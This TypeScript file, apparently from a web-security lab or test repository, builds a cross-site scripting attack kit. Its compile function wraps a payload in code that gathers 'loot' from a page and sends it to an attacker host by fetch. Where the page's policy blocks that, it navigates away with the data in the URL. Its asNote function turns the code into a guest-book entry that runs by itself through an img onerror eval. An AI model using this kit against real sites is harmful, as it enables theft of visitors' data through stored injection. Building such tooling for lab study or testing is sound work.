// The attacker's script, as text: a function of this repository with a small kit around it that carries loot out of the page.
import { EVIL } from './hosts.ts'

export interface Kit {
  readonly evil: string
  /** What the attacker knew before. */
  readonly params: Readonly<Record<string, string>>
  /** Keeps a find for the next `flush`. */
  take(kind: string, value: unknown): void
  /**
   * Sends what was found to the attacker's site: by fetch, or, where the page's policy forbids that, by leaving the page. Where nothing was
   * found it says so and stays; where even that is forbidden, the browser's report of it says the same.
   */
  flush(): Promise<void>
}

export type Payload = (kit: Kit) => unknown

/**
 * @param payload may use nothing but its kit and the page: it travels as text
 * @param evil where loot goes
 */
export function compile(payload: Payload, params: Readonly<Record<string, string>> = {}, evil: string = EVIL): string {
  return `(() => {
  const native = window.fetch.bind(window)
  const loot = Object.create(null)
  const kit = {
    evil: ${JSON.stringify(evil)},
    params: ${JSON.stringify(params)},
    take(kind, value) { if (value !== undefined && value !== null && value !== '') loot[kind] = String(value) },
    async flush() {
      const body = JSON.stringify({ loot })
      const found = Object.keys(loot).some((kind) => kind !== 'error')
      try { await native(kit.evil + (found ? '/loot' : '/nothing'), { method: 'POST', mode: 'no-cors', body, keepalive: true }) }
      catch { if (found) location.assign(kit.evil + '/loot?d=' + encodeURIComponent(body)) }
    },
  }
  const run = ${payload.toString()}
  new Promise((go) => go(run(kit))).catch((error) => kit.take('error', error)).finally(() => kit.flush())
})()`
}

/** A note in the guest book that runs `code` in whatever page shows it as HTML; at the top level, as a script would. */
export function asNote(code: string): string {
  const escaped = code.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;')
  return `<img src="x:" data-code="${escaped}" onerror="(0, eval)(this.dataset.code)">`
}
